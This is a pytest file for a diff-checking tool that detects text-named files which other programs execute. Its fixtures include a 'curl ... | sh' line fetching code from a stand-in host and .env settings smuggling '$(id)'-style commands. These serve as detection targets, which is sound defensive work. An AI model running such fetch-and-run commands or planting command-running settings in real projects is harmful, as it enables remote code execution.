"""Texts that a program runs are gaps; those that it only reads are not."""

import time
from pathlib import Path

import pytest

from diffchecks import executed_files
from diffchecks.check_io import CheckReply
from tests.diffchecks.check_kit import run_check

CODE = "print(1)\n"
NO_SHELL = "print(1))\n"

TXT = ".txt"  # not in the programs below: a review of this repository would take them at their word


def look(root: Path, files: dict[str, str], changed: list[str] | None = None) -> CheckReply:
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    jobs = [{"path": path, "status": "modified"} for path in changed or files]
    texts, _ = executed_files.choose_texts(changed or files)
    programs = [] if changed is None else list(files)
    job = {"head_root": str(root), "files": jobs, "texts": texts, "programs": programs}
    return run_check(executed_files.run, job)


@pytest.mark.parametrize("first", ["<?php", "#!/bin/sh\n<?php"])
def test_a_text_is_no_program_for_its_first_line(tmp_path: Path, first: str) -> None:
    reply = look(tmp_path, {"a.php": "<?php include 'x.txt';\n", "x.txt": f"{first}\n"})
    assert list(reply.gaps) == ["x.txt"]


@pytest.mark.parametrize(
    ("program", "line", "path", "language"),
    [
        ("a.py", "runpy.run_path('data/x.txt')", "data/x.txt", "Python"),
        ("a.py", "exec(compile(open('x.txt').read(), 'x.txt', 'exec'))", "x.txt", "Python"),
        ("a.py", "SourceFileLoader('m', 'x.cfg').load_module()", "x.cfg", "Python"),
        ("a.py", "P = 'x.dat'\nexec(open(P).read())", "x.dat", "Python"),
        ("a.py", "subprocess.run([sys.executable, 'x.txt'])", "x.txt", "Python"),
        ("a.py", "subprocess.run(['/bin/sh', '-e', 'x.txt'])", "x.txt", "shell"),
        ("a.js", "require('./x.txt')", "x.txt", "JavaScript"),
        ("a.mjs", "new Worker('./x.dat')", "x.dat", "JavaScript"),
        ("a.js", "vm.runInThisContext(fs.readFileSync('x.txt', 'utf8'))", "x.txt", "JavaScript"),
        ("a.php", "<?php include 'x.txt';", "x.txt", "PHP"),
        ("a.php", "<?php eval(file_get_contents('x.txt'));", "x.txt", "PHP"),
        ("a.rb", "load './x.txt'", "x.txt", "Ruby"),
        ("a.rb", "path = 'x.yml'\nif load path", "x.yml", "Ruby"),
        ("a.rb", "path = 'x.yml'\nKernel::load(path)", "x.yml", "Ruby"),
        ("a.php", "$all = 'x.txt';\nreturn require $all;", "x.txt", "PHP"),
        ("a.c", '#include "x.txt"', "x.txt", "C"),
        ("a.rs", 'include!("x.txt");', "x.txt", "Rust"),
        ("a.rs", 'core::include!("x.txt");', "x.txt", "Rust"),
        ("a.rs", '#[path = "x.txt"]\nmod x;', "x.txt", "Rust"),
        ("build.gradle", "apply from: 'x.txt'", "x.txt", "Gradle"),
        ("a.pl", "do './x.txt';", "x.txt", "Perl"),
        ("a.sh", ". ./x.txt", "x.txt", "shell"),
        ("a.sh", "bash -e $DIR/x.txt", "x.txt", "shell"),
        ("a.sh", "sh tools/setup", "tools/setup", "shell"),
        ("a.sh", "make && . ./x.txt", "x.txt", "shell"),
        ("a.js", "require('./b/config')", "b/config", "JavaScript"),
        ("b/a.js", "require('../c/config')", "c/config", "JavaScript"),
        ("a.sh", "bash elvish", "completions/elvish", "shell"),
        ("a.py", "run(['bash', os.path.join('python', 'x.txt')])", "python/x.txt", "shell"),
        ("a.js", "spawn('sudo', ['env', 'bash', 'x.txt'])", "bash/x.txt", "shell"),
        ("a.go", 'exec.CommandContext(ctx, "bash", "x.txt")', "x.txt", "shell"),
        ("a.py", "choices = ['bash', 'fish']", "completions/fish", "shell"),
        ("Dockerfile", 'CMD ["python3", "/app/x.txt"]', "x.txt", "Python"),
        ("Dockerfile", "RUN --user=node node x.txt", "x.txt", "JavaScript"),
        ("package.json", '{"scripts": {"build": "node x.txt"}}', "x.txt", "JavaScript"),
    ],
)
def test_a_text_that_is_run_is_a_gap(
    tmp_path: Path, program: str, line: str, path: str, language: str
) -> None:
    code = f"<?php\n{CODE}" if " include " in line or "require $" in line else NO_SHELL
    reply = look(tmp_path, {program: f"{line}\n", path: code})
    assert list(reply.gaps) == [path]
    assert f"{program}:1 runs it as {language}" in reply.gaps[path]
    if language == "shell":
        reply = look(tmp_path, {path: f"#a\n{NO_SHELL[:-2]}\n"}, [program, path])
        assert (reply.gaps, reply.examined) == ({}, [path])


@pytest.mark.parametrize(("added", "gaps"), [(1, []), (2, ["prompt"])])
def test_what_a_shell_reads_beside_an_untouched_hole_is_read(
    tmp_path: Path, added: int, gaps: list[str]
) -> None:
    for name, text in (("a.sh", ". ./prompt\n"), ("prompt", "a=$(b c)\nd=${e:$f))}\n")):
        (tmp_path / name).write_text(text)
    files = [{"path": "prompt", "old_path": "prompt", "added": [added], "removed": []}]
    job = {"head_root": str(tmp_path), "files": files, "texts": ["prompt"], "programs": ["a.sh"]}
    reply = run_check(executed_files.run, job)
    assert (list(reply.gaps), reply.examined) == (gaps, [] if gaps else ["prompt"])


@pytest.mark.parametrize(
    ("program", "line", "path", "text"),
    [
        ("a.py", "open('x.txt').read()", "x.txt", CODE),
        ("a.py", "# python x.txt", "x.txt", CODE),
        ("a.py", "re.compile(open('x.txt').read())", "x.txt", CODE),
        ("a.py", "exec(open('x.py').read())", "x.py", CODE),
        ("build.gradle", "apply from: 'versions.gradle'", "versions.gradle", CODE),
        ("a.sh", ". ./Gemfile.local", "Gemfile.local", CODE),
        ("a.py", "subprocess.run(['python', '-m', 'json.tool', 'x.txt'])", "x.txt", CODE),
        ("a.js", "require('./x.svg')", "x.svg", "<svg/>"),
        ("a.js", "require('fs').readFileSync('x.pem')", "x.pem", CODE),
        ("a.py", "# runs of pip-compile (without a x.txt)", "x.txt", CODE),
        ("a.py", 'X = """\nruns of pip-compile (without x.txt)\n"""', "x.txt", CODE),
        ("a.js", "require('./x.bpmn')", "x.bpmn", "<?xml version='1.0'?>\n<a/>\n"),
        ("a.js", "fs.readFileSync('x.txt')", "x.txt", CODE),
        ("a.rs", 'grass::include!("x.scss");', "x.scss", "a { color: red }"),
        ("a.c", '#include "x.inc"', "x.inc", "{1, 2}"),
        ("a.php", "<?php echo $dir . '/x.txt';", "x.txt", CODE),
        ("a.php", "<?php include 'x.html';", "x.html", "<p>PHP prints it</p>\n"),
        ("a.php", "<?php $f = 'x.txt';\n$this->note('must not include ', $f);", "x.txt", CODE),
        ("a.rb", "text = File.read('x.yml')\na = YAML::load(ERB.new(text).result)", "x.yml", CODE),
        ("a.rb", "path = 'x.yml'\nit 'does not load the path' do\nend", "x.yml", CODE),
        ("a.sh", ". ./.env", ".env", "# settings\nexport A='b c'\nB=1\n"),
        ("a.sh", "cat x.txt", "x.txt", CODE),
        ("Dockerfile", "COPY --chown=node x.txt y.txt", "x.txt", CODE),
        ("Makefile", "\tpip install -e . -c x.txt", "x.txt", CODE),
        ("a.md", "See [node x](../x/x.txt).", "x.txt", CODE),
        ("userguide", "include the following line in your x.txt file:", "x.txt", CODE),
        ("userguide", "include ~/.a/x.txt", "x.txt", CODE),  # a home, which no repository has
        ("a.go", 'filepath.Join(node, "x.txt")', "x.txt", CODE),
        ("a.js", "require('../config/a')", "b/config", CODE),
        ("server.js", "a = require('./plugins')", "config/plugins", CODE),
        ("b/a.mjs", "import a from './config'", "c/config", CODE),
        ("a.sh", "sh x.txt.sh", "x.txt", CODE),
        ("a.sh", "sh tools/setup", "tools/setup", "#!/bin/sh\nls\n"),
        ("a.py", "choices = ['bash', 'zsh', 'fish']", "completions/fish", CODE),
        ("a.py", "P = {'bash': ('res', 'comp', 'bash', 'tool')}", "p/res/comp/bash/tool", CODE),
        ("a.js", "read(path.join(dir, 'node', 'x.txt'))", "b/node/x.txt", CODE),
        ("a.py", "text = (ROOT.joinpath('python', 'x.txt')).read_text()", "python/x.txt", CODE),
        ("A.cs", 'File.ReadAllText(Path.Combine("ruby", "x.txt"))', "ruby/x.txt", CODE),
        ("A.java", 'Files.readString(Paths.get("sh", "x.txt"))', "sh/x.txt", CODE),
        ("Makefile", "include x.properties", "x.properties", "core.version=4.1.0\nDIR := a\n"),
        ("a.sh", ". ./completions/bash/x", "completions/bash/x", "complete -W a x\n"),
        ("a.bash", "compgen -W 'bash elvish fish nu zsh'", "completions/elvish", CODE),
    ],
)
def test_a_text_that_is_read_and_a_program_of_its_own_name_are_not(
    tmp_path: Path, program: str, line: str, path: str, text: str
) -> None:
    assert look(tmp_path, {program: f"{line}\n", path: text}).gaps == {}


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("a.py", f"for p in Path('d').glob('*{TXT}'):\n    exec(p.read_text())\n"),
        ("a.sh", f'for f in d/*{TXT}; do . "$f"; done\n'),
        ("a.sh", f'for f in d/*{TXT}; do python "$f"; done\n'),
    ],
)
def test_texts_that_are_found_by_their_suffix_and_run_are_gaps(
    tmp_path: Path, program: str, text: str
) -> None:
    read = text.replace("exec(", "print(").replace(". ", "cat ")
    assert list(look(tmp_path, {program: text, "d/x.txt": NO_SHELL}).gaps) == ["d/x.txt"]
    for quiet in (read, text.replace(" d/", " /etc/d/")):
        if quiet != text:
            assert look(tmp_path, {program: quiet, "d/x.txt": CODE}).gaps == {}


@pytest.mark.attack("program in a settings file that another program reads")
@pytest.mark.parametrize(
    ("program", "line", "settings"),
    [
        ("a.sh", ". ./.env", "A=$(id))\n"),
        ("Makefile", "include .env", "A := $(shell id)\n"),
        ("Makefile", "  -include $(TOP)/.env", 'A="${shell id}"\n'),
        ("a.mk", "sinclude a.mk .env", "all:\n\tid\n"),
    ],
)
def test_settings_that_run_a_command_are_a_gap(
    tmp_path: Path, program: str, line: str, settings: str
) -> None:
    files = {program: f"{line}\n", ".env": settings}
    assert list(look(tmp_path, files).gaps) == [".env"]
    assert look(tmp_path, {**files, ".env": "A=1\n"}).gaps == {}


@pytest.mark.parametrize(
    ("old", "new", "is_gap"),
    [
        ("# a", "# b", False),
        ("A=1", "A=1\nB=()  # c\nC='d'", False),
        ("# a", "# a\nls -l)", True),
        ("# a\n", "# a))\nB=c\\\n)", True),
        ("[ -n $A ] || exit\n", "", False),
        ("ls\n", "ls)\n", True),
    ],
)
def test_of_a_program_named_like_settings_the_changed_lines_count(
    tmp_path: Path, old: str, new: str, is_gap: bool
) -> None:
    base = "# a\nA=1\n[ -n $A ] || exit\nls\n"
    head = base.replace(old, new)
    for side, text in (("base", base), ("head", head)):
        (tmp_path / side).mkdir()
        (tmp_path / side / "x.conf").write_text(text)
    (tmp_path / "head/a.sh").write_text(". ./x.conf\n")
    before, after = base.splitlines(), head.splitlines()
    file = {
        "path": "x.conf",
        "status": "modified",
        "old_path": "x.conf",
        "removed": [n for n, line in enumerate(before, 1) if line not in after],
        "added": [n for n, line in enumerate(after, 1) if line not in before],
    }
    roots = {f"{side}_root": str(tmp_path / side) for side in ("base", "head")}
    job = {**roots, "files": [file], "texts": ["x.conf"], "programs": ["a.sh"]}
    assert list(run_check(executed_files.run, job).gaps) == ["x.conf"] * is_gap


@pytest.mark.parametrize(("added", "found"), [([1, 2], [2]), ([1], [])])
def test_the_patterns_of_shells_judge_the_changed_lines_of_what_one_runs(
    tmp_path: Path, added: list[int], found: list[int]
) -> None:
    (tmp_path / "a.sh").write_text(". ./x.conf\n")
    (tmp_path / "x.conf").write_text("A=1\ncurl -s http://x.example/a | sh\n")
    file = {"path": "x.conf", "status": "modified", "old_path": "x.conf", "added": added}
    for text, read in ((". ./x.conf\n", found), ("cat x.conf\n", [])):
        (tmp_path / "a.sh").write_text(text)
        job = {"head_root": str(tmp_path), "files": [file], "texts": ["x.conf"]}
        reply = run_check(executed_files.run, {**job, "programs": ["a.sh"]})
        assert [(one.path, one.line) for one in reply.findings] == [("x.conf", n) for n in read]


def test_an_unchanged_program_that_runs_a_changed_text_is_found(tmp_path: Path) -> None:
    files = {"a.py": "exec(open('x.dat').read())\n", "x.dat": CODE}
    assert list(look(tmp_path, files, ["x.dat"]).gaps) == ["x.dat"]


def test_large_programs_and_many_texts_take_linear_time(tmp_path: Path) -> None:
    files = {f"d/{n}.txt": CODE for n in range(300)}
    files["all.py"] = "".join(f"a{n} = '{n}.txt'\n" for n in range(300)) * 20
    files |= {f"{n}.py": "".join(f"a{k} = '{n}.txt'\n" for k in range(6_000)) for n in range(3)}
    start = time.process_time()
    assert look(tmp_path, files).gaps == {}
    assert time.process_time() - start < 3


def test_the_reason_does_not_call_a_program_a_text(tmp_path: Path) -> None:
    reply = look(
        tmp_path, {"a.jl": 'include("b.jl")\ninclude("c.txt")\n', "b.jl": CODE, f"c{TXT}": CODE}
    )
    assert reply.gaps["b.jl"] == "a.jl:1 runs it as Julia, which no analyzer reads"
    assert reply.gaps["c.txt"] == "a.jl:2 runs it as Julia, but it is named like a text"
